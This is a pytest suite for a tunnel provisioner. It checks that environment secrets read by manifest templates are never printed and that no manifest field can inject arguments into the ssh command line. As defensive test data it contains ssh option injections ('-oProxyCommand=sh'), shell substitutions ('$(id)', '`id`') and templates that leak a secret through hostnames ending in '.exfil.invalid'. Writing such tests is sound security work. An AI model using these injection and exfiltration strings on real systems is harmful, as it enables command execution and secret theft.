"""Values from a manifest and its environment are untrusted: none is ever printed, none reaches ssh as an option."""

from __future__ import annotations

import io
import json
import re

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from provisioner import manifest
from provisioner.cli.console import Console
from provisioner.desired.specs import _remote_word, container_spec, secrets_in_command
from provisioner.engine import login_file
from provisioner.errors import ManifestError

SECRET = "ghp_R3viewSecret0123456789"


def load(write_manifest, tunnel: dict, environ: dict | None = None):
    path = write_manifest(yaml.safe_dump({"version": 1, "tunnels": [{"name": "a", "port": 1, **tunnel}]}))
    return manifest.load(path, environ or {})


def errors(write_manifest, tunnel: dict, environ: dict | None = None) -> str:
    with pytest.raises(ManifestError) as caught:
        load(write_manifest, tunnel, environ)
    console_out = io.StringIO()
    console = Console(out=console_out, err=console_out)
    console.hide(caught.value.secrets)
    for line in caught.value.details:
        console.print(line)
    return console_out.getvalue()


@pytest.mark.parametrize("template", [
    "{{ env.S }}", "{{ env['S'] }}", "{{ env.get('S') }}", "{{ env.S ~ '!' }}", "{{ env.S | upper }}",
    "{{ env.S[1:] }}", "{{ {}[env.S] }}", "{{ env.S | int + 1 }}", "{{ env.S }}\n",
])
@pytest.mark.parametrize("field", ["host", "server", "image", "container_name", "token", "local_tls"])
def test_no_message_shows_a_value_read_from_the_environment(write_manifest, field, template):
    printed = errors(write_manifest, {field: template, "port": "{{ env.S }}"}, {"S": SECRET})
    assert SECRET not in printed and SECRET[1:] not in printed and SECRET.upper() not in printed
    assert "env.S" in printed  # the message names the variable instead


@pytest.mark.parametrize("template", ["{{ env | dictsort }}", "{{ env | list }}", "{{ env.items() | list }}",
                                      "{{ env }}", "{{ env | length }}", "{{ env | tojson }}",
                                      "{% for k in env %}{{ k }}{% endfor %}", "{{ env.keys() | join }}"])
def test_the_environment_cannot_be_listed(write_manifest, template):
    printed = errors(write_manifest, {"host": template}, {"S": SECRET, "OTHER": "x" * 12})
    assert SECRET not in printed and "x" * 12 not in printed and "'S'" not in printed


def test_env_gives_variables_by_name_with_defaults(write_manifest):
    loaded = load(write_manifest, {"host": "{{ env.get('NOPE', 'localhost') }}",
                                   "token": "{{ env['T'] if 'T' in env else '' }}"}, {"T": "tok"})
    assert loaded.tunnels[0].settings.host == "localhost" and loaded.tunnels[0].settings.token == "tok"


def test_user_pass_text_in_basic_auth_says_what_to_write_without_the_credentials(write_manifest):
    printed = errors(write_manifest, {"basic_auth": ["{{ env.CREDS }}"]}, {"CREDS": "alice:Hunter2Secret"})
    assert "Hunter2Secret" not in printed and "alice" not in printed
    assert "(from env.CREDS) must be a mapping {username: …, password: …}" in printed


def test_a_values_rendered_from_the_environment_are_masked_in_normal_output_too(write_manifest):
    loaded = load(write_manifest, {"host": "{{ env.H }}"}, {"H": "devbox.lan"})
    console_out = io.StringIO()
    console = Console(out=console_out)
    console.hide(loaded.secrets)
    console.print(f"target {loaded.tunnels[0].settings.host}:1")
    assert console_out.getvalue() == "target (sensitive):1\n"


def test_a_number_made_from_the_environment_is_sensitive_too_and_json_stays_json(write_manifest):
    loaded = load(write_manifest, {"port": "{{ 1000 + '0123456789'.index(env.S[4]) }}",
                                   "allow_cidrs": ["10.0.0.0/8"]}, {"S": "S3cr3tValue"})
    assert loaded.tunnels[0].settings.port == 1003  # the value is used as is…
    console_out = io.StringIO()
    console = Console(out=console_out)
    console.hide(loaded.secrets)
    console.print("target 127.0.0.1:1003 → a.pinggy.io:443")
    console.print_json({"target": "127.0.0.1:1003", "create": 1, "changes": True})
    assert console_out.getvalue().splitlines()[0] == "target 127.0.0.1:(sensitive) → a.pinggy.io:443"  # …never shown
    assert json.loads(console_out.getvalue().partition("\n")[2]) == {
        "target": "127.0.0.1:(sensitive)", "create": 1, "changes": True}
    printed = errors(write_manifest, {"port": "{{ env.PORT }}"}, {"PORT": "384500"})
    assert "384500" not in printed and "tunnels[0].port (tunnel 'a'): (from env.PORT) must be at most 65535" in printed


def test_a_short_slice_of_a_secret_is_sensitive_as_a_whole(write_manifest):
    loaded = load(write_manifest, {"host": "x{{ env.S[0:2] }}", "allow_cidrs": ["10.0.0.0/8"]}, {"S": "S3cr3t"})
    console_out = io.StringIO()
    console = Console(out=console_out)
    console.hide(loaded.secrets)
    console.print("host 'xS3' is not a loopback address; tunnels[1] xS3x stays")
    assert console_out.getvalue() == "host '(sensitive)' is not a loopback address; tunnels[1] xS3x stays\n"


@pytest.mark.parametrize("template", [
    "{{ env.S }}{{ env._read.clear() or '' }}", "{{ env.S }}{{ env.read.clear() or '' }}",
    "{% set l = [env.S] %}{{ l.pop() }}{{ l.append(1) }}", "{{ {'a': env.S}.popitem() }}",
    "{{ dict(a=env.S).update(b=1) }}", "{% for x in [1, 2] %}{{ loop.changed(env.S) }}{% endfor %}",
    "{{ cycler(env.S).next() }}", "{{ joiner(env.S)() }}", "{{ env.get.__self__ }}",
])
def test_the_sandbox_is_immutable_and_the_record_of_reads_out_of_reach(write_manifest, template):
    printed = errors(write_manifest, {"host": template}, {"S": SECRET})
    assert SECRET not in printed and "tunnels[0].host" in printed
    assert "undefined variable '_read'" not in printed  # the sandbox refused it; no variable is named so


@pytest.mark.parametrize("template", [
    "{{ env[env.S | lower] }}", "{{ ('{' ~ env.S[::-1] ~ '}').format() }}", "{{ env.S | int(base=2) + 'x' }}",
    "{{ env.S | float + [] }}", "{{ range(env.S | length * 100000) | list }}", "{{ 'x' * (env.S | length * 9999) }}",
    "{{ env.NOPE | required(env.S) }}", "{{ env.S.index('@@') }}", "{{ env.S | batch(0) | list }}",
    "{{ env.S[99] }}", "{{ env.S | attr(env.S) }}", "{% for c in env.S %}{{ c ~ 1 // 0 }}{% endfor %}",
])
def test_a_failing_template_that_read_a_variable_says_the_field_and_the_variable_only(write_manifest, template):
    printed = errors(write_manifest, {"host": template}, {"S": SECRET})
    for form in (SECRET, SECRET.lower(), SECRET[::-1], SECRET[1:], str(len(SECRET) * 100000)):
        assert form not in printed, printed
    assert "tunnels[0].host (tunnel 'a'):" in printed


ALLOW = "TUNNELCTL_ENV_ALLOW"


@pytest.mark.parametrize("decided_by, process", [
    ("CI is set", {"CI": "true"}), (f"{ALLOW} is set", {"CI": "true", ALLOW: "PINGGY_TOKEN"}),
    (f"{ALLOW} is set", {ALLOW: "PINGGY_TOKEN, OTHER"}),
])
@pytest.mark.parametrize("template", ["{{ env.S }}", "{{ env.get('S', 'x') }}", "{{ 'S' in env }}",
                                      "{{ env['S'] }}", "{{ env.NOT_SET }}"])
def test_an_untrusted_manifest_reads_only_the_variables_it_is_allowed(write_manifest, decided_by, process, template):
    printed = errors(write_manifest, {"host": template}, {"S": SECRET, **process})
    assert SECRET not in printed
    assert "may not be read: the manifest is not trusted" in printed and decided_by in printed
    assert f"{ALLOW} does not name it" in printed


def test_allowed_variables_are_read_and_a_star_trusts_the_manifest(write_manifest):
    process = {"S": SECRET, "PINGGY_TOKEN": "tok", "CI": "true"}
    loaded = load(write_manifest, {"token": "{{ env.PINGGY_TOKEN }}"}, {**process, ALLOW: "PINGGY_TOKEN"})
    assert loaded.tunnels[0].settings.token == "tok"
    loaded = load(write_manifest, {"host": "{{ env.H }}"}, {**process, "H": "devbox.lan", ALLOW: "*"})
    assert loaded.tunnels[0].settings.host == "devbox.lan"
    developer = load(write_manifest, {"host": "{{ env.H }}"}, {"H": "devbox.lan"})
    assert developer.tunnels[0].settings.host == "devbox.lan"


def test_a_dotenv_cannot_make_its_manifest_trusted(write_manifest):
    write_manifest("TUNNELCTL_ENV_ALLOW=*\nCI=\n", name=".env")
    printed = errors(write_manifest, {"host": "{{ env.S }}"}, {"S": SECRET, "CI": "true"})
    assert "env.S may not be read: the manifest is not trusted (CI is set)" in printed


def test_a_variable_name_the_template_computes_is_not_printed(write_manifest):
    printed = errors(write_manifest, {"host": "{{ env[env.S | lower] }}"}, {"S": SECRET, ALLOW: "S"})
    assert SECRET.lower() not in printed and "a variable whose name the template computes" in printed


@pytest.mark.parametrize("where", [{"engines": {"e": {"docker": "tcp://{{ env.S | lower }}.exfil.invalid:2376"}}},
                                   {"tunnels": [{"name": "a", "port": 1, "host": "{{ env.S }}.exfil.invalid"}]},
                                   {"tunnels": [{"name": "a", "port": 1, "server": "{{ env.S }}.exfil.invalid"}]},
                                   {"tunnels": [{"name": "a", "port": "{{ env.S | length }}"}]},
                                   {"tunnels": [{"name": "a", "port": 1, "labels": {"x": "{{ env.S[0] }}"}}]},
                                   {"project": "{{ env.S | lower }}"}, {"defaults": {"host": "{{ env.S }}"}}])
def test_an_untrusted_manifest_reads_the_environment_into_secret_fields_only(write_manifest, where):
    document = {"version": 1, "tunnels": [{"name": "a", "port": 1}], **where}
    path = write_manifest(yaml.safe_dump(document))
    with pytest.raises(ManifestError) as caught:
        manifest.load(path, {"S": SECRET, ALLOW: "S"})
    assert "only secret fields (token, access_keys, basic_auth passwords) may read" in "\n".join(caught.value.details)
    assert SECRET not in "\n".join(caught.value.details)
    secret_fields = {"token": "{{ env.S }}", "access_keys": ["{{ env.K }}"],
                     "basic_auth": [{"username": "u", "password": "{{ env.S }}"}]}
    fine = write_manifest(yaml.safe_dump({"version": 1, "tunnels": [{"name": "a", "port": 1, **secret_fields}]}),
                          name="fine.yaml")
    assert manifest.load(fine, {"S": SECRET, "K": "k3y0123456789", ALLOW: "S,K"}).tunnels[0].settings.token == SECRET
    if "engines" in where or "project" in where:
        with pytest.raises(ManifestError):
            manifest.load_scope(path, {"S": SECRET, ALLOW: "S"})


@pytest.mark.parametrize("secret", ["upstream\\Secret\t99", 'pass"word', "pässwörd1", "it's \"both\""])
def test_a_secret_is_masked_in_every_form_it_can_be_printed_in(secret):
    console_out = io.StringIO()
    console = Console(out=console_out)
    console.hide([secret])
    import json
    for shown in (secret, repr(secret), ascii(secret), json.dumps(secret), _remote_word("b:u:" + secret),
                  str([secret]), yaml.safe_dump(secret)):
        console.print(shown)
    assert not any(part in console_out.getvalue() for part in re.split(r"[\s\"'\\]+", secret) if len(part) > 3)


def test_logs_fallback_finds_passwords_holding_at_signs_and_quotes():
    command = ("-p", "443", "-R0:127.0.0.1:1", "-t", "tok_1+force@pro.pinggy.io", "k:abcdef123456",
               _remote_word('b:alice:p@ss"w rd'), "x:https")
    assert secrets_in_command(command) == {"tok_1", "abcdef123456", 'p@ss"w rd'}


@pytest.mark.parametrize("tunnel, path", [
    ({"token": "-E"}, "token"), ({"token": "abc\n"}, "token"), ({"token": "{{ env.T }}"}, "token"),
    ({"port": 3845.0}, "port"), ({"server_port": 443.0}, "server_port"), ({"keepalive": 30.0}, "keepalive"),
    ({"port": "{{ env.P }}"}, "port"), ({"port": "{{ env.F }}"}, "port"), ({"port": "{{ env.U }}"}, "port"),
    ({"allow_cidrs": ["fe80::1%eth0 x/64"]}, "allow_cidrs"), ({"allow_cidrs": ["10.0.0.0/8\n"]}, "allow_cidrs"),
    ({"host": "localhost\n"}, "host"), ({"server": "-oProxyCommand=x"}, "server"),
    ({"headers": {"add": {"X-A": "v\n"}}}, "headers"), ({"labels": {"team": "design\n"}}, "labels"),
    ({"ssh_options": {"ConnectTimeout": "-5"}}, "ssh_options"),
    ({"ssh_options": {"ConnectTimeout": 5.0}}, "ssh_options"),
])
def test_values_that_would_bend_the_command_line_are_refused(write_manifest, tunnel, path):
    printed = errors(write_manifest, tunnel, {"T": "tok\n", "P": " 3845", "F": "3845.0", "U": "３８４５"})
    assert f"tunnels[0].{path}" in printed


# Every field that reaches the ssh command line, with values an attacker would try.
HOSTILE = st.one_of(st.sampled_from(["-E", "-oProxyCommand=sh", "--", "-", " -x", "a b", "a\n", "a\tb", "a\"b",
                                     "-1", "a,b", "x:y", "$(id)", "`id`", "a;b", "\x00", "1.5", "ab@c"]),
                    st.text(max_size=12))
FIELDS = {
    "token": HOSTILE, "host": HOSTILE, "server": HOSTILE, "local_tls": HOSTILE, "forwarded_for": HOSTILE,
    "port": st.one_of(HOSTILE, st.integers(-5, 70000), st.floats()), "server_port": st.integers(-5, 70000),
    "keepalive": st.one_of(st.integers(-5, 4000), st.floats()), "debugger_port": st.integers(-5, 70000),
    "access_keys": st.lists(HOSTILE, min_size=1, max_size=2),
    "basic_auth": st.lists(st.fixed_dictionaries({"username": HOSTILE, "password": HOSTILE}), min_size=1, max_size=2),
    "allow_cidrs": st.lists(HOSTILE, min_size=1, max_size=2),
    "ssh_options": st.dictionaries(st.sampled_from(["ConnectTimeout", "IPQoS", "AddressFamily"]),
                                   st.one_of(HOSTILE, st.integers(-5, 99)), max_size=2),
    "headers": st.fixed_dictionaries({"add": st.dictionaries(HOSTILE, HOSTILE, max_size=2),
                                      "update": st.dictionaries(HOSTILE, HOSTILE, max_size=2),
                                      "remove": st.lists(HOSTILE, max_size=2)}),
}
OPTION_VALUE = re.compile(r"(StrictHostKeyChecking|ServerAliveInterval|ConnectTimeout|IPQoS|AddressFamily)="
                          r"[A-Za-z0-9][A-Za-z0-9_.,-]*")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                  HealthCheck.function_scoped_fixture])
@given(chosen=st.fixed_dictionaries({}, optional=FIELDS))
def test_no_field_can_inject_an_ssh_argument(write_manifest, chosen):
    try:
        loaded = load(write_manifest, chosen)
    except ManifestError:
        return
    command = list(container_spec("p", loaded.tunnels[0]).command)
    assert command[:2] == ["-p", str(loaded.tunnels[0].settings.server_port)] and command[1].isdigit()
    assert re.fullmatch(r"-R0:[A-Za-z0-9][A-Za-z0-9.:-]*:[0-9]+", command[2])
    index = 3
    if command[index].startswith("-L"):
        assert re.fullmatch(r"-L(0\.0\.0\.0:)?[0-9]+:localhost:4300", command[index])
        index += 1
    if command[index] in ("-F", "--conf"):  # a token: in the login file (engine/login_file.py), at a fixed path
        assert command[index + 1] in (login_file.CONFIG, login_file.CLI_CONFIG)
        index += 2
        if command[index] == "--type":
            assert command[index + 1] in ("tcp", "tls", "udp", "tlstcp")
            index += 2
    while command[index] == "-o":
        assert OPTION_VALUE.fullmatch(command[index + 1]), command[index + 1]
        index += 2
    assert command[index] == "-t"
    destination, *remote = command[index + 1:]
    assert re.fullmatch(r"([A-Za-z0-9_][A-Za-z0-9_-]*(\+[a-z]+)*@)?[A-Za-z0-9][A-Za-z0-9.-]*", destination)
    for word in remote:
        assert re.match(r'^"?[kbwxaur]:', word) and not re.search(r"[\x00-\x1f\x7f]", word), word


def test_a_plain_tcp_engine_is_a_warning_that_the_token_travels_in_clear(write_manifest, monkeypatch):
    path = write_manifest("""
        version: 1
        engines: {lab: {docker: "tcp://10.0.0.5:2375"}, home: {docker: "ssh://me@home.lan"}}
        tunnels: [{name: a, port: 1, engine: lab, allow_cidrs: [10.0.0.0/8]}]
    """)
    [warning] = manifest.load(path, {}).warnings
    assert "engines.lab.docker: a tcp:// engine without tls" in warning and "token" in warning

    path = write_manifest("version: 1\ntunnels: [{name: a, port: 1, allow_cidrs: [10.0.0.0/8]}]\n")
    monkeypatch.setenv("DOCKER_HOST", "tcp://10.0.0.5:2375")
    monkeypatch.delenv("DOCKER_TLS_VERIFY", raising=False)
    monkeypatch.delenv("DOCKER_CERT_PATH", raising=False)
    [warning] = manifest.load(path, {}).warnings
    assert "DOCKER_HOST is a tcp:// address without TLS" in warning and "10.0.0.5" not in warning
    monkeypatch.setenv("DOCKER_TLS_VERIFY", "1")
    assert manifest.load(path, {}).warnings == ()
